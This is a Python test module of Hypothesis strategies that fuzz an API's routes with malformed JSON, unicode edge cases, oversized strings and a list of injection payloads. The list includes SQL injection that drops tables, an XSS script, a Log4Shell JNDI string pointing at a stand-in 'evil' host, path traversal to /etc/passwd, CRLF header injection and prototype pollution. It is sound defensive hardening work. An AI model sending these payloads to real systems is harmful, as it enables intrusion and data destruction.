"""Hypothesis strategies for hostile input: malformed JSON, wrong types, huge strings, unicode edge cases (NUL,
lone surrogates, bidi overrides, astral characters), injection strings, unknown and missing fields."""

from hardening_support import encode_json, field_names, path_args
from hypothesis import strategies as st

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfffy",
    "\ufeff",
    "\u202egnp.exe",
    "a\u200bb",
    "𝕏🙂",
    "\uffff",
    "\U0010ffff",
    "﷽",
    "\r\n\r\nX-Injected: 1",
    "\t",
    "Ω≈ç√",
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    '"; DROP SCHEMA public CASCADE; --',
    "1; SELECT pg_sleep(5)",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "../../../../etc/passwd",
    "%00",
    "%2e%2e%2f",
    "$where",
    '{"$gt": ""}',
    "null",
    "true",
    "-1",
    "1e309",
    "NaN",
    "0x10",
    "2026-02-30",
    "9999-99-99",
    "S01",
    "C01",
    "柳城街道",
    "\\",
    "/",
    "?",
    "#",
]
HUGE = st.builds(
    lambda ch, n: ch * n, st.sampled_from(["x", "汉", "\x00", "🙂", "'"]), st.sampled_from([201, 4001, 70_000])
)
nasty_text = st.one_of(st.sampled_from(NASTY), st.text(max_size=30), HUGE)
scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    nasty_text,
)
json_value = st.recursive(
    scalar,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(nasty_text, inner, max_size=4)),
    max_leaves=8,
)
RAW_BODIES = [
    b"{",
    b"}",
    b"[]",
    b"[1, 2]",
    b"null",
    b'"a string"',
    b"42",
    b"\xff\xfe\x00\x00",
    b"{'a': 1}",
    b'{"a": 1,}',
    b"NaN",
    b'{"a": NaN}',
    b"[" * 5000,
    b'{"a":' * 3000,
    b'{"a": "\\ud800"}',
    b'{"a": "\x00"}',
    b"\x00",
    b'{"__proto__": {"admin": true}}',
    b'{"a": 1} trailing',
]


def body(route):
    """A POST body: raw bytes that are not a JSON object, or an object mixing the route's fields (any type,
    any value, each maybe missing) with unknown ones."""
    names = sorted(field_names(route) - set(path_args(route)))
    known = st.fixed_dictionaries({}, optional={name: json_value for name in names})
    unknown = st.dictionaries(nasty_text, json_value, max_size=2)
    objects = st.builds(lambda a, b, mix: {**a, **b} if mix else a, known, unknown, st.booleans())
    return st.one_of(objects.map(encode_json), st.sampled_from(RAW_BODIES))


def query(route):
    names = sorted(field_names(route) - set(path_args(route)))
    keys = st.one_of(st.sampled_from(names), nasty_text) if names else nasty_text
    return st.dictionaries(keys, nasty_text, max_size=4)


def path_values(route):
    value = st.one_of(st.sampled_from([v for v in NASTY if v]), st.text(min_size=1, max_size=30), HUGE)
    return st.fixed_dictionaries({name: value for name in path_args(route)})
